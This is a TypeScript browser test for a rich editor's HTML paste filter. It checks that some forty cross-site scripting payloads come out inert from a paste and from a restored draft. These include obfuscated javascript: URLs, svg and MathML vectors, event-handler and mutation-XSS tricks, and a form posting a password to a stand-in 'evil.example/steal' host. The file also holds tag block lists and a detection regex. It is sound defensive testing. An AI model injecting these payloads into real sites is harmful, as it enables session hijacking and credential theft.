// @module-tag security
import { fileURLToPath } from 'node:url';
import { build } from 'esbuild';
import { chromium, type Browser, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { ALLOWED_ATTRIBUTES, ALLOWED_TAGS } from '@/lib/markup/allowed-html';
import { chromiumLaunch } from '../helpers/chromium';

/**
 * The rich editor's paste and draft filter (`components/admin/paste-filter.ts`), run where it runs: in a
 * real browser. The filter's safety rests on how a browser parses HTML and reads URLs (entities, tabs and
 * newlines inside a scheme, svg and math namespaces), which a Node DOM imitation would only approximate.
 * The module is bundled as the editor's client bundle would carry it, loaded into a blank Chromium page,
 * and every payload is checked three ways: the filter's output parsed by the browser, that output pasted
 * into a contentEditable area with `insertHTML` (execCommand rewrites markup), and the output written into
 * an area as a restored draft is.
 */

const ROOT = fileURLToPath(new URL('../..', import.meta.url));

/** Attributes whose value the browser treats as an address, in any namespace. */
const URL_ATTRIBUTE_NAMES = ['href', 'src', 'cite', 'xlink:href', 'action', 'formaction', 'data', 'poster', 'background', 'srcset', 'codebase', 'longdesc', 'usemap', 'ping', 'manifest'];

/** Elements that must never come out of the filter, whatever the allow-list says. */
const BLOCKED_TAGS = ['svg', 'math', 'script', 'style', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'form', 'input', 'button', 'textarea', 'select', 'meta', 'link', 'base', 'template', 'noscript', 'animate', 'set', 'use', 'foreignobject'];

const PAYLOADS: [string, string][] = [
  ['svg link with xlink:href', '<svg><a xlink:href="javascript:window.__xss=1"><text y="20">svg link</text></a></svg>'],
  ['svg link with plain href', '<svg><a href="javascript:window.__xss=1"><text y="20">svg link</text></a></svg>'],
  ['svg animate setting href', '<svg><a><animate attributeName="href" values="javascript:window.__xss=1"/><text y="20">x</text></a></svg>'],
  ['svg use with a data URL', '<svg><use href="data:image/svg+xml,&lt;svg id=%22x%22 xmlns=%22http://www.w3.org/2000/svg%22&gt;&lt;/svg&gt;#x"/></svg>'],
  ['svg onload', '<svg onload="window.__xss=1"><circle r="4"></circle></svg>'],
  ['MathML mi with xlink:href', '<math><mi xlink:href="javascript:window.__xss=1">x</mi></math>'],
  ['MathML element with href', '<math href="javascript:window.__xss=1"><mtext href="javascript:window.__xss=1">x</mtext></math>'],
  ['MathML maction statusline', '<math><maction actiontype="statusline" xlink:href="javascript:window.__xss=1">x</maction></math>'],
  ['tab entity inside the scheme', '<a href="java&#9;script:window.__xss=1">tab</a>'],
  ['hex tab entity inside the scheme', '<a href="java&#x09;script:window.__xss=1">tab</a>'],
  ['literal tab inside the scheme', '<a href="java\tscript:window.__xss=1">tab</a>'],
  ['newline entity inside the scheme', '<a href="jav&#x0A;ascript:window.__xss=1">newline</a>'],
  ['carriage return inside the scheme', '<a href="java&#13;script:window.__xss=1">cr</a>'],
  ['entity-encoded first letter', '<a href="&#106;avascript:window.__xss=1">entity</a>'],
  ['fully entity-encoded scheme', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1">entities</a>'],
  ['hex entities without semicolons', '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;window.__xss=1">hex</a>'],
  ['named-entity colon', '<a href="javascript&colon;window.__xss=1">colon</a>'],
  ['mixed-case scheme', '<a href="JaVaScRiPt:window.__xss=1">case</a>'],
  ['leading space', '<a href=" javascript:window.__xss=1">space</a>'],
  ['leading control characters', '<a href="\u0001\u0002 javascript:window.__xss=1">controls</a>'],
  ['leading control-character entities', '<a href="&#1;&#2;&#x1F;javascript:window.__xss=1">controls</a>'],
  ['leading DEL character', '<a href="\u007fjavascript:window.__xss=1">del</a>'],
  ['vbscript link', '<a href="vbscript:msgbox(1)">vb</a>'],
  ['data text/html link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>'],
  ['data URL image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="d">'],
  ['mailto image', '<img src="mailto:someone@example.org" alt="m">'],
  ['javascript image', '<img src="javascript:window.__xss=1" alt="j">'],
  ['img onerror', '<img src="x" onerror="window.__xss=1">'],
  ['img srcset', '<img srcset="javascript:window.__xss=1 1x" src="/placeholder.svg" alt="s">'],
  ['event handlers on allowed tags', '<p onclick="window.__xss=1" onmouseover="window.__xss=1">hello</p>'],
  ['details ontoggle', '<details open ontoggle="window.__xss=1"><summary>s</summary></details>'],
  ['button formaction in a form', '<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:window.__xss=1">Go</button></form>'],
  ['button formaction on its own', '<button formaction="javascript:window.__xss=1" form="f">Go</button><input type="image" formaction="javascript:window.__xss=1" src="/a.png">'],
  ['script element', '<script>window.__xss=1</script>'],
  ['style element', '<style>body{background:url("javascript:window.__xss=1")}</style>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>'],
  ['iframe data URL', '<iframe src="data:text/html,<script>parent.__xss=1</script>"></iframe>'],
  ['object and embed', '<object data="javascript:window.__xss=1"></object><embed src="javascript:window.__xss=1">'],
  ['meta refresh and base', '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1"><base href="https://evil.example/">'],
  ['style, class and id overlay', '<div style="position:fixed;inset:0;z-index:9999" class="fixed inset-0 z-50" id="__NEXT_DATA__">Overlay</div>'],
  ['noscript mutation XSS', '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>'],
  ['template mutation XSS', '<template><img src=x onerror=window.__xss=1></template>'],
  ['table background', '<table background="javascript:window.__xss=1"><tr><td>x</td></tr></table>'],
];

/** A Google Docs clipboard fragment: styles, ids and wrappers to lose, formatting and a link to keep. */
const GOOGLE_DOCS =
  '<meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-1a2b3c">' +
  '<h1 dir="ltr" style="line-height:1.38;margin-top:20pt"><span style="font-size:20pt;font-family:Arial">Field notes</span></h1>' +
  '<p dir="ltr" style="line-height:1.38"><span style="font-weight:700">Bold lead</span> and <em>quiet emphasis</em> with ' +
  '<a href="https://example.org/paper" style="text-decoration:none"><span style="color:#1155cc">a link to the paper</span></a>.</p>' +
  '<ul style="margin-top:0"><li dir="ltr" style="list-style-type:disc"><p dir="ltr">First point</p></li><li dir="ltr"><p dir="ltr">Second point</p></li></ul>' +
  '<ol start="3"><li>Third point</li></ol>' +
  '<div dir="ltr" align="left"><table style="border:none;border-collapse:collapse"><colgroup><col width="100"></colgroup><tbody>' +
  '<tr><th scope="col" style="border:solid #000 1pt">Year</th><th scope="col">Result</th></tr>' +
  '<tr><td colspan="1">2026</td><td>Accepted</td></tr></tbody></table></div></b>';

/** A Word clipboard document: a head full of styles, conditional comments and Office namespaces. */
const WORD =
  '<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word"><head>' +
  '<meta name=Generator content="Microsoft Word 15"><style>p.MsoNormal{margin:0cm;font-family:"Calibri"}</style>' +
  '<!--[if gte mso 9]><xml><w:WordDocument></w:WordDocument></xml><![endif]--></head><body lang=EN-GB>' +
  '<!--StartFragment--><h2 class=MsoHeading2>Word heading</h2>' +
  '<p class=MsoNormal><b>Strong words</b> and <i>slanted words</i><o:p></o:p></p>' +
  '<p class=MsoListParagraph style="mso-list:l0 level1 lfo1">Listed line</p>' +
  '<p class=MsoNormal><a href="https://example.org/word">word link</a><o:p></o:p></p><!--EndFragment--></body></html>';

/** What the browser found wrong in one piece of DOM; an empty list means it is safe. */
type Findings = { where: string; problems: string[]; html: string; text: string; links: string[] };

/** The page's view of a payload: the filter's output and its checks in three contexts. */
type Result = { clean: string; findings: Findings[]; disallowed: string[]; inserted: boolean };

let browser: Browser;
let page: Page;
const dialogs: string[] = [];
const pageErrors: string[] = [];

beforeAll(async () => {
  const bundle = await build({
    entryPoints: [`${ROOT}components/admin/paste-filter.ts`],
    bundle: true,
    format: 'iife',
    globalName: 'pasteFilter',
    platform: 'browser',
    target: 'chrome120',
    write: false,
    // As tsconfig.json's paths do: '@/lib/…' is the repository's lib folder.
    alias: { '@': ROOT.replace(/\/$/, '') },
    logLevel: 'silent',
  });
  browser = await chromium.launch(chromiumLaunch);
  page = await browser.newPage();
  // A payload that ran would show up here: an alert, an uncaught error, or window.__xss set.
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('pageerror', (error) => pageErrors.push(error.message));
  // Nothing on the page may reach the network: a kept address that loads would show as a request here.
  await page.route('**/*', (route) => route.abort());
  await page.setContent('<!doctype html><title>t</title>');
  await page.addScriptTag({ content: bundle.outputFiles[0].text });
}, 60_000);

afterAll(async () => {
  await browser?.close();
});

/**
 * Runs the filter on the payload inside the page and inspects the result as the browser reads it. The
 * function is serialised into the page, so it uses nothing from this file but its arguments.
 */
function filterInPage(html: string): Promise<Result> {
  return page.evaluate(
    ({ html, urlAttributes, blockedTags, allowedTags, allowedAttributes }) => {
      const filter = (window as unknown as { pasteFilter: { inertHtml: (html: string) => string } }).pasteFilter;
      const clean = filter.inertHtml(html);
      const safeProtocols = ['http:', 'https:', 'mailto:'];

      const inspect = (where: string, root: ParentNode & { textContent: string | null }, markup: string): Findings => {
        const problems: string[] = [];
        const links: string[] = [];
        for (const element of Array.from(root.querySelectorAll('*'))) {
          const tag = element.localName.toLowerCase();
          if (element.namespaceURI !== 'http://www.w3.org/1999/xhtml') problems.push(`<${tag}> in ${element.namespaceURI}`);
          if (blockedTags.includes(tag)) problems.push(`<${tag}>`);
          // What the browser itself resolves, for the elements that have a URL property.
          const resolved: string[] = [];
          if (element instanceof HTMLAnchorElement) {
            resolved.push(element.href);
            links.push(element.href);
          }
          if (element instanceof HTMLImageElement) resolved.push(element.src);
          for (const attribute of Array.from(element.attributes)) {
            const name = attribute.name.toLowerCase();
            if (name.startsWith('on')) problems.push(`${tag}[${name}]`);
            // A browser drops ASCII tab, newline and leading control characters from a URL and reads the
            // scheme case-insensitively; DEL is removed too, to be stricter than a browser.
            const values = name === 'href' || name === 'src' ? [attribute.value, ...resolved] : [attribute.value];
            for (const value of values) {
              const normalised = value.replace(/[\u0000-\u0020\u007f]/g, '').toLowerCase();
              if (/^(?:javascript|vbscript|data|livescript|mocha|file):/.test(normalised)) problems.push(`${tag}[${name}=${JSON.stringify(value)}]`);
            }
            if (urlAttributes.includes(name)) {
              // The URL parser's own reading, against an http base so a relative address resolves.
              let protocol = 'unparsable';
              try {
                protocol = new URL(attribute.value, 'https://site.example/posts/').protocol;
              } catch {
                // An address the parser refuses cannot be followed; it counts as safe.
                protocol = 'https:';
              }
              if (!safeProtocols.includes(protocol)) problems.push(`${tag}[${name}] is ${protocol}`);
              // An image may only load over http or https, as on the server (no mailto:, no data:).
              if (tag === 'img' && name === 'src' && protocol === 'mailto:') problems.push(`img[src] is ${protocol}`);
            }
          }
        }
        return { where, problems, html: markup, text: (root.textContent ?? '').replace(/\s+/g, ' ').trim(), links };
      };

      // 1. The filter's output as the browser parses it, inertly (a template's content loads nothing).
      const template = document.createElement('template');
      template.innerHTML = clean;
      const findings = [inspect('output', template.content as DocumentFragment & { textContent: string | null }, clean)];

      // Every element and attribute in the output is on the shared allow-list, per element.
      const disallowed: string[] = [];
      for (const element of Array.from(template.content.querySelectorAll('*'))) {
        const tag = element.localName;
        if (!allowedTags.includes(tag)) disallowed.push(`<${tag}>`);
        for (const attribute of Array.from(element.attributes)) {
          if (!(allowedAttributes[tag] ?? []).includes(attribute.name)) disallowed.push(`${tag}[${attribute.name}]`);
        }
      }

      // 2. A paste: the editor inserts the output into its contentEditable area with insertHTML.
      const area = document.createElement('div');
      area.contentEditable = 'true';
      area.innerHTML = '<p>before</p>';
      document.body.append(area);
      area.focus();
      const range = document.createRange();
      range.selectNodeContents(area);
      range.collapse(false);
      const selection = window.getSelection();
      selection?.removeAllRanges();
      selection?.addRange(range);
      const inserted = document.execCommand('insertHTML', false, clean);
      findings.push(inspect('pasted', area, area.innerHTML));
      area.remove();

      // 3. A restored draft: the editor writes the output into a live area with innerHTML.
      const draft = document.createElement('div');
      draft.contentEditable = 'true';
      document.body.append(draft);
      draft.innerHTML = filter.inertHtml(html);
      findings.push(inspect('draft', draft, draft.innerHTML));
      draft.remove();

      return { clean, findings, disallowed, inserted };
    },
    { html, urlAttributes: URL_ATTRIBUTE_NAMES, blockedTags: BLOCKED_TAGS, allowedTags: [...ALLOWED_TAGS], allowedAttributes: Object.fromEntries(Object.entries(ALLOWED_ATTRIBUTES).map(([tag, names]) => [tag, [...names]])) },
  );
}

describe('the rich editor paste filter, in Chromium', { timeout: 30_000 }, () => {
  it.each(PAYLOADS)('%s: nothing executable survives a paste or a draft', async (_name, payload) => {
    const { clean, findings, disallowed } = await filterInPage(payload);
    for (const finding of findings) expect({ where: finding.where, problems: finding.problems, html: finding.html }).toEqual({ where: finding.where, problems: [], html: finding.html });
    expect(disallowed).toEqual([]);
    // The filter is stable: a second pass over its own output changes nothing.
    expect((await filterInPage(clean)).clean).toBe(clean);
  });

  it('the checks themselves flag the raw payloads (so a passing test means something)', async () => {
    const flagged: string[] = [];
    for (const [name, payload] of PAYLOADS) {
      const raw = await page.evaluate(
        ({ payload, blockedTags }) => {
          const template = document.createElement('template');
          template.innerHTML = payload;
          return Array.from(template.content.querySelectorAll('*')).some(
            (element) =>
              blockedTags.includes(element.localName.toLowerCase()) ||
              element.namespaceURI !== 'http://www.w3.org/1999/xhtml' ||
              Array.from(element.attributes).some(
                (attribute) =>
                  /^on/i.test(attribute.name) ||
                  ['style', 'class', 'id', 'srcset', 'background'].includes(attribute.name) ||
                  /^(?:javascript|vbscript|data|mailto):/.test(attribute.value.replace(/[\u0000-\u0020\u007f]/g, '').toLowerCase()),
              ),
          );
        },
        { payload, blockedTags: BLOCKED_TAGS },
      );
      if (raw) flagged.push(name);
    }
    expect(flagged).toEqual(PAYLOADS.map(([name]) => name));
  });

  it('keeps the formatting and the https link of a Google Docs paste', async () => {
    const { clean, findings, disallowed, inserted } = await filterInPage(GOOGLE_DOCS);
    expect(inserted).toBe(true);
    expect(disallowed).toEqual([]);
    for (const finding of findings) {
      expect(finding.problems).toEqual([]);
      for (const text of ['Field notes', 'Bold lead', 'quiet emphasis', 'a link to the paper', 'First point', 'Second point', 'Third point', 'Year', 'Result', '2026', 'Accepted']) {
        expect(finding.text, finding.where).toContain(text);
      }
      expect(finding.links, finding.where).toContain('https://example.org/paper');
    }
    // The output itself keeps the structure, without any of the clipboard's styles, ids or dir attributes.
    for (const markup of ['<h1>', '<em>quiet emphasis</em>', '<a href="https://example.org/paper">', '<ul>', '<li>', '<ol start="3">', '<table>', '<th scope="col">', '<td colspan="1">2026</td>']) {
      expect(clean).toContain(markup);
    }
    expect(clean).not.toMatch(/style=|class=|id=|dir=|<meta|<col/);
  });

  it('keeps the formatting and the https link of a Word paste, without its styles or Office markup', async () => {
    const { clean, findings, disallowed, inserted } = await filterInPage(WORD);
    expect(inserted).toBe(true);
    expect(disallowed).toEqual([]);
    for (const finding of findings) {
      expect(finding.problems).toEqual([]);
      for (const text of ['Word heading', 'Strong words', 'slanted words', 'Listed line', 'word link']) expect(finding.text, finding.where).toContain(text);
      // The stylesheet in Word's head is code, not prose: its text must not appear.
      expect(finding.text, finding.where).not.toContain('MsoNormal');
      expect(finding.links, finding.where).toContain('https://example.org/word');
    }
    expect(clean).toContain('<h2>Word heading</h2>');
    expect(clean).toContain('<b>Strong words</b>');
    expect(clean).toContain('<i>slanted words</i>');
    expect(clean).not.toMatch(/class=|style=|<o:p|<!--/);
  });

  it('keeps site paths, anchors, mailto links and https images', async () => {
    const { clean } = await filterInPage(
      '<p><a href="/blog/first">site path</a> <a href="#notes">anchor</a> <a href="../up">relative</a> <a href="mailto:me@example.org">mail</a> <a href="//cdn.example.org/x">protocol-relative</a></p>' +
        '<img src="/uploads/a.jpg" alt="upload" width="640" height="480"><img src="https://images.example.org/b.jpg" alt="remote">',
    );
    for (const href of ['/blog/first', '#notes', '../up', 'mailto:me@example.org', '//cdn.example.org/x']) expect(clean).toContain(`href="${href}"`);
    expect(clean).toContain('<img src="/uploads/a.jpg" alt="upload" width="640" height="480">');
    expect(clean).toContain('<img src="https://images.example.org/b.jpg" alt="remote">');
  });

  it('drops attributes the allow-list gives only to other elements, and the text of non-text elements', async () => {
    // A leading <noscript> is the case a document parse gets wrong: it would open a head and spill its
    // paragraph into the body. Its text is fallback markup, not prose, and goes as on the server.
    const { clean } = await filterInPage(
      '<noscript><p>hidden</p></noscript><p title="t" rel="r" start="2" data-x="1" aria-label="l">para</p><td scope="row">cell</td><textarea>typed</textarea><video>fallback</video>',
    );
    expect(clean).toBe('<p>para</p>cellfallback');
  });

  it('ran no payload while doing all this', async () => {
    // Give a late handler (an image error, a meta refresh) time to fire before concluding.
    await page.waitForTimeout(300);
    expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
    expect(dialogs).toEqual([]);
    expect(pageErrors).toEqual([]);
  });
});
